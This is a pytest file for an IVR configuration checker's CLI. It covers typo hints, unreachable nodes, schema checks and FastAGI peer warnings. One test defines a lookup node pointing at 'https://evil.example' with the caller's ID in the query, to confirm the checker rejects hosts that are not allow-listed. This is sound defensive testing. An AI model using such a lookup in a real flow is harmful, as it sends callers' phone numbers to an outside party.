"""`python main.py check` and `python main.py schema` as a user runs them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ivr.cli import main

from .helpers import BASE_FLOW, line_of, mutate, write_flow

ROOT = Path(__file__).resolve().parents[2]


def test_check_sample_config_exit_zero(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", str(ROOT / "config" / "ivr.yaml")]) == 0
    out = capsys.readouterr().out
    assert out.startswith("OK: 0 error(s), 0 warning(s); flows: callback, campaign, main, survey (version ")


def test_check_flows_dir_with_errors_exit_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = mutate("    next: main_menu", "    next: main_manu")
    path = write_flow(tmp_path / "flows", text)
    assert main(["check", str(tmp_path / "flows")]) == 1
    out = capsys.readouterr().out.splitlines()
    assert (
        f"{path}:{line_of(text, 'main_manu')}:11: error: target 'main_manu' is not a node of flow 'main' "
        "(did you mean 'main_menu'?)" in out
    )
    assert out[-1].startswith("FAILED: 1 error(s), ")


def test_check_one_flow_file_shows_only_its_problems(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    flows = tmp_path / "flows"
    good = write_flow(flows, BASE_FLOW + "  orphan: {type: hangup}\n")
    other = write_flow(
        flows, "name: other\nstart: end\nnodes:\n  end: {type: hangup}\n  lost: {type: hangup}\n", "other.yaml"
    )
    assert main(["check", "--json", str(other)]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["ok"] and [p["message"] for p in result["problems"]] == [
        "node 'lost' is unreachable from start 'end'"
    ]
    assert main(["check", "--strict", str(good)]) == 1
    assert "orphan" in capsys.readouterr().out


def test_check_settings_cross_checks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "project"
    write_flow(project / "config" / "flows", BASE_FLOW)
    settings = project / "config" / "ivr.yaml"
    settings.write_text("flows_dir: config/flows\ncallbacks:\n  flow: callbak\n")
    assert main(["check", str(settings)]) == 1
    out = capsys.readouterr().out
    assert f"{settings}:3:9: error: callbacks.flow 'callbak' is not a flow (flows: main)" in out


def test_check_missing_path_exit_two(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", str(tmp_path / "nope")]) == 2
    assert "no such file or directory" in capsys.readouterr().out


def test_schema_command_prints_the_schema(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["schema"]) == 0
    schema = json.loads(capsys.readouterr().out)
    assert schema["$schema"].startswith("https://json-schema.org/")
    assert set(schema["required"]) == {"name", "start", "nodes"}


def test_schema_check_detects_a_stale_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    stale = tmp_path / "schema.json"
    stale.write_text("{}\n")
    assert main(["schema", "--check", str(stale)]) == 1
    assert main(["schema", "--write", str(stale)]) == 0
    assert main(["schema", "--check", str(stale)]) == 0


def test_check_lookup_host_not_allowed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "project"
    text = mutate("      0: goodbye", "      0: crm") + (
        "  crm:\n    type: lookup\n    url: 'https://evil.example/x?a=${caller_id}'\n    next: goodbye\n"
        "    on_error: goodbye\n"
    )
    flow = write_flow(project / "config" / "flows", text)
    settings = project / "config" / "ivr.yaml"
    settings.write_text("lookups: {allowed_hosts: [crm.example.com]}\ncallbacks: {enabled: false}\n")
    assert main(["check", "--json", str(settings)]) == 0
    problems = json.loads(capsys.readouterr().out)["problems"]
    hosts = [p for p in problems if p["code"] == "lookup-host"]
    assert len(hosts) == 1 and hosts[0]["file"] == str(flow) and hosts[0]["line"] == line_of(text, "evil.example")
    assert hosts[0]["message"] == "lookup host 'evil.example' is not in lookups.allowed_hosts"


def test_broken_settings_still_check_the_flows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "project"
    text = mutate("    next: main_menu", "    next: main_manu")
    write_flow(project / "config" / "flows", text)
    settings = project / "config" / "ivr.yaml"
    settings.write_text("fastagi: {prot: 1}\n")
    assert main(["check", str(settings)]) == 1
    out = capsys.readouterr().out
    assert "unknown key 'prot' (did you mean 'port'?)" in out and "target 'main_manu'" in out


def test_queue_override_for_a_queue_no_flow_uses(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "project"
    write_flow(project / "config" / "flows", BASE_FLOW)
    settings = project / "config" / "ivr.yaml"
    settings.write_text("callbacks: {enabled: false}\nqueues:\n  overrides:\n    sale: 30s\n")
    assert main(["check", str(settings)]) == 0
    out = capsys.readouterr().out
    assert (
        f"{settings}:4:5: warning: queues.overrides: no flow transfers to queue 'sale' (did you mean 'sales'?)" in out
    )


def test_check_warns_when_fastagi_listens_widely_but_allows_only_loopback(tmp_path: Path) -> None:
    """Listening on 0.0.0.0 with the loopback-only default: every remote Asterisk would be refused, say so."""
    from ivr.tools.check import check

    root = Path(__file__).resolve().parents[2]
    settings = tmp_path / "config" / "ivr.yaml"
    settings.parent.mkdir()
    settings.write_text(
        f"fastagi:\n  host: 0.0.0.0\nflows_dir: {root / 'config' / 'flows'}\n"
        f"prompts_dir: {root / 'recordings' / 'prompts'}\ncallbacks: {{enabled: false}}\n"
    )
    problems = [p for p in check(str(settings))["problems"] if p.code == "fastagi-peers"]
    assert len(problems) == 1 and problems[0].severity == "warning" and problems[0].line == 2
    assert "allowed_peers" in problems[0].hint

    settings.write_text(settings.read_text().replace("host: 0.0.0.0", "host: 0.0.0.0\n  allowed_peers: [10.0.0.5]"))
    assert not [p for p in check(str(settings))["problems"] if p.code == "fastagi-peers"]


def test_check_warns_about_an_asterisk_server_fastagi_would_refuse(tmp_path: Path) -> None:
    """ami.servers lists an Asterisk by address that fastagi.allowed_peers leaves out: its calls would be refused."""
    from ivr.tools.check import check

    root = Path(__file__).resolve().parents[2]
    settings = tmp_path / "config" / "ivr.yaml"
    settings.parent.mkdir()
    settings.write_text(
        "ami:\n  servers:\n    - {name: pbx1, host: 10.0.0.11}\n    - name: pbx2\n      host: 10.0.0.12\n"
        "fastagi:\n  host: 0.0.0.0\n  allowed_peers: [10.0.0.11]\n"
        f"flows_dir: {root / 'config' / 'flows'}\nprompts_dir: {root / 'recordings' / 'prompts'}\n"
        "callbacks: {enabled: false}\n"
    )
    problems = [p for p in check(str(settings))["problems"] if p.code == "fastagi-peers"]
    assert [(p.severity, p.line) for p in problems] == [("warning", 5)]
    assert "'pbx2' (10.0.0.12)" in problems[0].message and "10.0.0.12" in problems[0].hint
